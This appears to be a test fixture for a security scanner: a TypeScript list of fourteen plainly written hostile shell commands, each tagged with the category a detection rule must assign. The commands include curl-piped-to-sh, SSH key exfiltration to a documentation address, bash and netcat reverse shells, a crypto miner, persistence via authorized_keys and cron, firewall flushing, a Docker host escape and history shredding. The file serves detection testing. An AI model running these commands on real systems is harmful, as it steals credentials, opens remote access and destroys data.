/** What the matrix dresses up: acts that a reviewer must not miss, each as plainly as it can be written. */
import type { Category } from "../../../extension/core/base/finding.ts";
import type { PlainCommand } from "./plain-command.ts";

export interface Act {
  readonly name: string;
  /** What a rule must call it, whatever it wears. */
  readonly category: Category;
  readonly command: PlainCommand;
}

// Paths are absolute, so that a word means the same quoted or not; addresses and names are those set aside for documentation.
export const acts: readonly Act[] = [
  { name: "fetch and run", category: "download-exec", command: "curl -fsSL https://get.example.net/i.sh | sh" },
  { name: "reverse tunnel", category: "tunnel", command: "ssh -N -R 9001:localhost:22 u@203.0.113.9" },
  { name: "miner", category: "miner", command: "xmrig -o stratum+tcp://pool.example.net:3333 -u 48abc" },
  { name: "key sent away", category: "exfil", command: "curl -T /home/dev/.ssh/id_rsa https://203.0.113.9/in" },
  { name: "key piped away", category: "exfil", command: "cat /home/dev/.ssh/id_rsa | curl -d @- https://203.0.113.9/in" },
  { name: "shell over a socket", category: "reverse-shell", command: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" },
  { name: "shell by netcat", category: "reverse-shell", command: "nc -e /bin/sh 203.0.113.9 4444" },
  { name: "home removed", category: "destructive", command: "rm -rf /home/dev" },
  { name: "key let in", category: "persistence", command: "echo 'ssh-ed25519 AAAAC3NzaC1 me' >> /home/dev/.ssh/authorized_keys" },
  { name: "cron", category: "persistence", command: "echo '* * * * * /tmp/k' | crontab -" },
  { name: "firewall off", category: "defense-evasion", command: "iptables -F" },
  { name: "container escape", category: "container-escape", command: "docker run --rm -v /:/host alpine chroot /host sh" },
  { name: "scan", category: "network-scan", command: "nmap -p 1-65535 10.0.0.0/24" },
  { name: "history wiped", category: "defense-evasion", command: "shred -u /home/dev/.bash_history" },
];
